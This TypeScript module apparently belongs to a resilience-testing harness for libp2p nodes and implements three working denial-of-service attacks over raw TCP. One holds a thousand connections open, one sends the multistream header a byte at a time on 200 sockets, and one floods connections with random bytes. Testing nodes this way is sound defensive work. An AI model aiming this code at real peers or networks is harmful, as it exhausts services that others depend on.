/** Attacks below libp2p: bare TCP connections that are many, slow, or full of rubbish. */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { multiaddr } from '@multiformats/multiaddr';
import { type Attack, type AttackCounts, type AttackTarget, count, pause } from './attack.ts';

const CROWD = 1_000;
const DIALS_AT_ONCE = 100;
const TURN_MS = 20;
const MULTISTREAM = Buffer.from('\x13/multistream/1.0.0\n', 'latin1');
const SLOW_CONNECTIONS = 200;
const SLOW_BYTE_MS = 500;
const RUBBISH_CONNECTIONS = 20;
const RUBBISH_BYTES = 64 * 1024;

/** Keeps a thousand connections from one address open, and opens one for each that is closed. */
export const connectionCrowd: Attack = (target, signal, counts = {}) =>
  crowd(target, signal, counts, CROWD, () => {});

/** Says its first line one byte at a time, on many connections. */
export const slowConnections: Attack = (target, signal, counts = {}) =>
  crowd(target, signal, counts, SLOW_CONNECTIONS, (socket) => {
    let at = 0;
    const timer = setInterval(() => {
      const byte = MULTISTREAM[at++];
      if (byte === undefined) return clearInterval(timer);
      socket.write(Uint8Array.of(byte));
      count(counts, 'bytes');
    }, SLOW_BYTE_MS);
    socket.once('close', () => clearInterval(timer));
  });

/** Random bytes where the first line should be: after it, and instead of it. */
export const rubbishConnections: Attack = (target, signal, counts = {}) =>
  crowd(target, signal, counts, RUBBISH_CONNECTIONS, (socket) => {
    if (Math.random() < 0.5) socket.write(MULTISTREAM);
    socket.write(randomBytes(RUBBISH_BYTES));
    count(counts, 'bytes', RUBBISH_BYTES);
  });

/**
 * Counts `opened` (TCP took it), `closed` (by the target), `failed` (not even TCP), and the most
 * that were held at a time in `held_most`.
 */
async function crowd(
  target: AttackTarget,
  signal: AbortSignal,
  counts: AttackCounts,
  size: number,
  begin: (socket: Socket) => void,
): Promise<AttackCounts> {
  const at = endpoint(target);
  const held = new Set<Socket>();
  let dialling = 0;
  const dial = (): void => {
    dialling++;
    const socket = connect(at);
    let stood = false;
    socket.once('connect', () => {
      stood = true;
      dialling--;
      count(counts, 'opened');
      held.add(socket);
      counts.held_most = Math.max(counts.held_most ?? 0, held.size);
      begin(socket);
    });
    socket.on('error', () => socket.destroy());
    socket.once('end', () => socket.destroy());
    socket.once('close', () => {
      if (stood) {
        held.delete(socket);
        if (!signal.aborted) count(counts, 'closed');
      } else {
        dialling--;
        count(counts, 'failed');
      }
    });
    // Nothing that the target says is of interest.
    socket.resume();
  };
  while (!signal.aborted) {
    while (held.size + dialling < size && dialling < DIALS_AT_ONCE) dial();
    await pause(TURN_MS, signal);
  }
  for (const socket of held) socket.destroy();
  return counts;
}

function endpoint({ address, from }: AttackTarget): {
  host: string;
  port: number;
  localAddress?: string;
} {
  const parts = new Map(
    multiaddr(address)
      .getComponents()
      .map(({ name, value }) => [name, value ?? '']),
  );
  const host = parts.get('ip4') ?? parts.get('ip6');
  const port = Number(parts.get('tcp'));
  if (host === undefined || !(port > 0)) throw new Error(`${address} is no TCP address`);
  return { host, port, ...(from === undefined ? {} : { localAddress: from }) };
}
